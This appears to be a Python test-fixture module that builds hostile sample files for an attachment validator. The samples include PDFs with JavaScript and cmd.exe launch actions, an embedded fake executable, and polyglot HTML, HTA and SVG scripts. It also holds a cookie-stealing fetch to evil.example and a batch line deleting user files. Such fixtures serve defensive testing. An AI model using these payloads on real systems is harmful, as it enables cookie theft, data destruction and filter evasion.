"""Sample files for the attachment checks: a plain PDF made with pypdf, and the hostile files of issue 10
(point 2) that must be refused or stored as harmless text."""
import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def _pdf(change=None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    if change:
        change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _open_action(action: dict):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(DictionaryObject(
            {NameObject(k): (NameObject(v) if v.startswith("/") else TextStringObject(v)) for k, v in action.items()}))
    return change


def _document_javascript(writer):
    action = writer._add_object(DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                                                  NameObject("/JS"): TextStringObject("app.alert('x');")}))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("startup"), action])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _xfa(writer):
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("form")})


def _zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.exe", b"MZ" + b"\x90" * 100)
    return out.getvalue()


PDF = _pdf()
PDF_WITH_JAVASCRIPT_OPEN_ACTION = _pdf(_open_action({"/S": "/JavaScript", "/JS": "app.alert('x')"}))
PDF_WITH_DOCUMENT_JAVASCRIPT = _pdf(_document_javascript)
PDF_WITH_LAUNCH_OPEN_ACTION = _pdf(_open_action({"/S": "/Launch", "/F": "cmd.exe"}))
PDF_WITH_EMBEDDED_FILE = _pdf(lambda writer: writer.add_attachment("payload.exe", b"MZ" + b"\x90" * 100))
PDF_WITH_XFA = _pdf(_xfa)
PDF_WITH_ZIP_APPENDED = PDF + _zip()
PDF_WITH_DATA_AFTER_EOF = PDF + b"\n<html><script>alert(1)</script></html>\n"
PDF_WITH_HTML_INSIDE = PDF.replace(b"%%EOF", b"%<html><body><script>alert(1)</script>\n%%EOF")

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>\n"
HTA = b'<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">Run "calc"</script></html>'
SVG_BEHIND_A_COMMENT = (b"<!--" + b"a harmless looking comment " * 80 + b"-->\n"
                        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n')
SVG_BEHIND_TEXT = b"notes about the request\n" * 100 + b'<svg xmlns="http://www.w3.org/2000/svg"/>\n'
SCRIPT = b"fetch('https://evil.example/?c=' + document.cookie);\n"
BATCH = b"@echo off\r\ndel /q C:\\Users\\*\r\n"
LATIN1 = "Caf\u00e9 r\u00e9sum\u00e9 \u00fc\u00f1\u00ee\u00e7\u00f8d\u00e9".encode("latin-1") + b"\xff\xfe\xfd"
